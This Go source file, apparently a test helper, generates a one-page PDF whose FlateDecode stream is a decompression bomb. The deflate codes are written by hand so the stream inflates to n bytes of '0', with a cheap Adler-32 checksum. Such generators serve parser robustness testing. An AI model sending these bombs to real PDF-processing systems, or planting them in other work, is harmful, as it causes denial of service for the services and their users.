package pdfgen

import (
	"bytes"
	"fmt"
)

// Bomb returns a one-page PDF whose content stream (FlateDecode) inflates
// to n bytes of the digit 0, one endless number for a content parser: a
// decompression bomb of about n/160 bytes, written directly as deflate
// codes, so that making a 1 GiB bomb costs milliseconds, not a gigabyte of
// compression.
func Bomb(n int64) []byte {
	var z bytes.Buffer
	z.Write([]byte{0x78, 0x01}) // zlib header: deflate, no dictionary
	var w bitWriter
	w.bits(1, 1) // final block
	w.bits(1, 2) // fixed Huffman codes
	// the literal '0' (48): codes 0–143 are 8 bits, 0x30 + value, sent
	// most significant bit first
	w.code(0x30+'0', 8)
	for left := n - 1; left > 0; {
		run := min(left, 258)
		if run < 3 {
			w.code(0x30+'0', 8)
			left--
			continue
		}
		lengthCode(&w, int(run))
		w.code(0, 5) // distance code 0: distance 1
		left -= run
	}
	w.code(0, 7) // end of block (256)
	w.flush()
	z.Write(w.buf)
	a, b := adler32Zeros(n)
	z.Write([]byte{byte(b >> 8), byte(b), byte(a >> 8), byte(a)})
	stream := z.Bytes()

	var out bytes.Buffer
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
		fmt.Sprintf("<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", len(stream), stream),
	}
	out.WriteString("%PDF-1.4\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = out.Len()
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	x := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&out, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, x)
	return out.Bytes()
}

// lengthCode writes the fixed-Huffman code of a match length (3–258) and
// its extra bits (RFC 1951 3.2.5).
func lengthCode(w *bitWriter, length int) {
	base := []int{3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227, 258}
	extra := []uint{0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5, 0}
	i := len(base) - 1
	for base[i] > length {
		i--
	}
	sym := 257 + i
	if sym <= 279 {
		w.code(uint32(sym-256), 7) // 256–279: 7 bits from 0
	} else {
		w.code(uint32(0xc0+sym-280), 8) // 280–287: 8 bits from 0xc0
	}
	w.bits(uint32(length-base[i]), extra[i])
}

// adler32Zeros is the Adler-32 of n bytes '0', computed without them.
func adler32Zeros(n int64) (a, b uint32) {
	const mod = 65521
	nm := uint64(n) % mod
	a64 := (1 + nm*48) % mod
	// b = n + 48·n(n+1)/2, all mod 65521
	t := uint64(n) % (2 * mod) * ((uint64(n) + 1) % (2 * mod)) / 2 % mod
	b64 := (nm + 48*t) % mod
	return uint32(a64), uint32(b64)
}

// bitWriter packs deflate bits, least significant first.
type bitWriter struct {
	buf  []byte
	acc  uint64
	nacc uint
}

// bits writes the low n bits of v, least significant first (extra bits, headers).
func (w *bitWriter) bits(v uint32, n uint) {
	w.acc |= uint64(v) << w.nacc
	w.nacc += n
	for w.nacc >= 8 {
		w.buf = append(w.buf, byte(w.acc))
		w.acc >>= 8
		w.nacc -= 8
	}
}

// code writes an n-bit Huffman code, most significant bit first.
func (w *bitWriter) code(c uint32, n uint) {
	var r uint32
	for i := uint(0); i < n; i++ {
		r = r<<1 | (c>>i)&1
	}
	w.bits(r, n)
}

func (w *bitWriter) flush() {
	if w.nacc > 0 {
		w.buf = append(w.buf, byte(w.acc))
		w.acc, w.nacc = 0, 0
	}
}
